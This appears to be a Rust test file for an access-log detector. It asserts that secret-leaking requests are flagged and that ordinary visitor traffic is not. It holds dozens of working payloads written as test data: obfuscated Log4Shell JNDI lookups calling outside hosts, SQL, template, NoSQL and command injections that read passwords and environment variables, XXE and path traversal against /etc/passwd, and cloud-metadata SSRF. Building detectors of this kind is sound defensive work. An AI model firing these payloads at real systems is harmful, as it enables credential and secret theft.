//! Text that makes a program give out secrets: lookups, templates, statements, and choices of secret fields.

use accesslog::Record;

use super::{get, is_innocent, is_seen, is_seen_by, seen};

#[test]
fn lookups_are_seen_in_every_field_that_is_logged() {
    let nested: Vec<String> = [
        "${jndi:ldap://198.51.100.9/a}",
        "${${lower:j}ndi:ldap://x.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}",
        "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x.example}",
        "${env:AWS_SECRET_ACCESS_KEY}",
        "${sys:user.home}",
        "${${upper:e}nv:HOME}",
        "%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D",
        "%2524%257Bjndi:dns://x.example%257D",
        "$%7Bjndi:dns://x.example%7D",
        "${spring:datasource.password}",
        "${file:UTF-8:/etc/passwd}",
        "${script:javascript:java.lang.Runtime.getRuntime()}",
        "${base64:JHtqbmRpOmxkYXA6Ly94fQ==}",
        "${k8s:podName}",
        "${main:0}",
        "${log4j:configLocation}",
        "${web:rootDir}",
        "${date:'${jndi:ldap://x}'}",
    ]
    .map(str::to_owned)
    .to_vec();
    for text in &nested {
        for record in [
            get(&format!("/search?q={text}")),
            get(&format!("/{text}/x")),
            Record { agent: Some(text.as_bytes()), ..get("/") },
            Record { referer: Some(text.as_bytes()), ..get("/") },
            Record { user: Some(text.as_bytes()), ..get("/") },
            Record { host: Some(text.as_bytes()), ..get("/") },
        ] {
            assert!(!seen(&record).is_empty(), "{text}: {record:?}");
        }
    }
}

#[test]
fn attempts_are_seen_in_headers() {
    for text in [
        "http://169.254.169.254/latest/meta-data/",
        "../../../../etc/passwd",
        "() { :; }; cat /etc/passwd",
        "x' union select password from users--",
        "http://x.oast.fun/",
        "{{config.SECRET_KEY}}",
        "<!ENTITY x SYSTEM \"file:///etc/passwd\">",
    ] {
        for record in
            [Record { agent: Some(text.as_bytes()), ..get("/") }, Record { referer: Some(text.as_bytes()), ..get("/") }]
        {
            assert!(!seen(&record).is_empty(), "{text}: {record:?}");
        }
    }
    for host in ["169.254.169.254", "metadata.google.internal"] {
        assert!(!seen(&Record { host: Some(host.as_bytes()), ..get("/latest/meta-data/") }).is_empty(), "{host}");
    }
}

#[test]
fn agents_and_referers_of_visitors_are_innocent() {
    for text in [
        "https://www.google.com/search?q=dog+food",
        "https://shop.example/blog/env-files?x=%7B%7D",
        "android-app://com.google.android.googlequicksearchbox/",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "curl/8.4.0",
        "Dalvik/2.1.0 (Linux; U; Android 10; SM-G960F Build/QP1A.190711.020)",
        "https://l.facebook.com/l.php?u=https%3A%2F%2Fshop.example%2F",
        "http://localhost:3000/",
        "https://app.slack.com/client/T0/C0",
    ] {
        for record in
            [Record { agent: Some(text.as_bytes()), ..get("/") }, Record { referer: Some(text.as_bytes()), ..get("/") }]
        {
            assert!(seen(&record).is_empty(), "{text}: {:?}", seen(&record));
        }
    }
}

#[test]
fn secrets_are_seen_where_they_are_chosen_by_name() {
    is_seen(&[
        "/api/users?fields=password,api_key",
        "/api/users?fields[]=passwordHash",
        "/api/users?include=secret",
        "/api/users?expand=credentials",
        "/api/users?select=id,apiToken",
        "/api/users?$select=Password",
        "/api/users?fields[users]=name,secret_key",
        "/api/users?filter[fields][password]=true",
        "/api/users?fields=*",
        "/api/shop?include=integrations.stripe.secretKey",
        "/graphql?query={user(id:1){accessKey}}",
        "/graphql?query=query%20Q%7Bme%7BapiKey%7D%7D",
        "/graphql?query=mutation{x{privateKey}}&variables={}",
        "/api/users?columns=name,pass_hash",
        "/api/users?show_secrets=true",
        "/api/config?reveal=true&key=api_secret",
        "/api/users?with_password=1",
        "/api/users?_fields=token",
        "/api/x?properties=aws_secret_access_key",
        "/api/users?populate=accessTokens",
        "/api/users?fields=password%2Capi_key",
        "/api/env?name=AWS_SECRET_ACCESS_KEY",
        "/api/get?var=DATABASE_URL",
    ]);
}

#[test]
fn injections_that_read_secrets_are_seen() {
    is_seen_by(
        "secret-injection",
        &[
            "/p?id=1+union+select+password+from+users",
            "/p?id=-1'/**/UNION/**/ALL/**/SELECT/**/api_key,2/**/FROM/**/settings--+-",
            "/p?id=1%20UNION%20SELECT%20secret%20FROM%20credentials",
            "/p?id=1;select+load_file('/etc/passwd')",
            "/p?id=1'and(select+1+from(select+count(*),concat((select+password+from+admins+limit+1),0x3a)x+from+information_schema.tables+group+by+x)a)--",
            "/p?id=extractvalue(1,concat(0x7e,(select+user_pass+from+wp_users+limit+1)))",
            "/p?id=1'||(select+pg_read_file('/etc/passwd'))--",
            "/p?id=(select%0apassword%0afrom%0ausers)",
            "/p?id=1/*!50000union*//*!50000select*/password/**/from/**/users",
            "/p?id=1%2527%2520union%2520select%2520password%2520from%2520users--",
            "/p?n={{config}}",
            "/p?n={{config.items()}}",
            "/p?n={{self.__init__.__globals__}}",
            "/p?n={{''.__class__.__mro__[1].__subclasses__()}}",
            "/p?n=${T(java.lang.System).getenv()}",
            "/p?n=%{(#a=@java.lang.System@getenv())}",
            "/p?n=<%=%20ENV['SECRET_KEY_BASE']%20%>",
            "/p?n=#{ENV['AWS_KEY']}",
            "/p?n={{_self.env.getFilter('id')}}",
            "/p?n=${@java.lang.Runtime@getRuntime().exec('env')}",
            "/p?n={php}print_r($_ENV){/php}",
            "/p?n={{request.application.__globals__}}",
            "/p?n={{settings.SECRET_KEY}}",
            "/p?n=*{T(java.lang.System).getenv('X')}",
            "/p?n=@(System.Environment.GetEnvironmentVariables())",
            "/p?n=;printenv",
            "/p?n=$(env)",
            "/p?n=`printenv`",
            "/p?n=%0aenv%0a",
            "/p?n=<?php%20echo%20getenv('DB_PASSWORD');?>",
            "/p?x=<!DOCTYPE%20a[<!ENTITY%20b%20SYSTEM%20'file:///etc/passwd'>]>",
            "/p?user[password][$regex]=^a",
            "/p?where={\"password\":{\"$gt\":\"\"}}",
            "/p?filter={\"$where\":\"this.password.length>0\"}",
            "/p?token[$ne]=x",
            "/p?sort=(case+when+(select+substr(password,1,1)+from+users)='a'+then+1+end)",
        ],
    );
}

#[test]
fn sentences_and_filters_are_innocent() {
    is_innocent(&[
        "/search?q=select+a+gift+from+our+shop",
        "/search?q=union+jack+flag",
        "/search?q=reset+my+password",
        "/search?q=what+is+an+api+key",
        "/p?grant_type=password",
        "/oauth/token",
        "/p?token=3f2b8c1e",
        "/p?csrf_token=abcdef",
        "/p?key=12",
        "/p?sort=name&fields=name,price",
        "/p?fields=monkey,tokenizer",
        "/p?include=reviews",
        "/p?filter[price][$gt]=10",
        "/p?filter={\"price\":{\"$gt\":10}}",
        "/p?name={{first_name}}",
        "/p?id=${product.id}",
        "/p?q=100%25+cotton",
        "/graphql?query={products{name,price}}",
        "/graphql?operationName=Cart",
        "/p?q=what+is+%24%7B",
        "/p?q=c%23+environment",
        "/p?utm_campaign=secret_sale",
        "/p?action=reset_password",
        "/p?tab=api-keys",
        "/p?section=credentials",
        "/p?with=photos",
        "/p?show=all",
    ]);
}

#[test]
fn keys_in_the_log_are_seen() {
    let long = "q7".repeat(30);
    for text in [
        format!("/p?t=ghp_{}", &long[..36]),
        format!("/p?t=github_pat_{}", &long[..50]),
        format!("/p?t=glpat-{}", &long[..20]),
        format!("/p?t=xoxb-1234567890-{}", &long[..24]),
        format!("/p?t=sk_live_{}", &long[..24]),
        "/p?k=AKIAIOSFODNN7EXAMPLE".to_owned(),
        "/p?k=ASIAIOSFODNN7EXAMPLE".to_owned(),
        format!("/p?k=AIza{}", &long[..35]),
        "/p?pem=-----BEGIN%20RSA%20PRIVATE%20KEY-----MIIEow".to_owned(),
        format!("/p?k=sk-proj-{}", &long[..40]),
        format!("/p?k=sk-ant-api03-{}", &long[..40]),
        format!("/p?k=npm_{}", &long[..36]),
        format!("/p?k=pypi-AgEIcHlwaS5vcmc{}", &long[..40]),
        format!("/p?k=dop_v1_{}", "a1".repeat(32)),
        format!("/p?k=shpat_{}", "a1".repeat(16)),
        format!("/p?k=hvs.{}", &long[..40]),
    ] {
        assert!(seen(&get(&text)).contains("key-material"), "{text}");
    }
    is_innocent(&[
        "/asia/akia",
        "/p?t=ghp_short",
        "/p?k=AIzaShort",
        "/p?q=sk_live_",
        "/hf_radio",
        "/p?x=npm_run_build",
    ]);
}
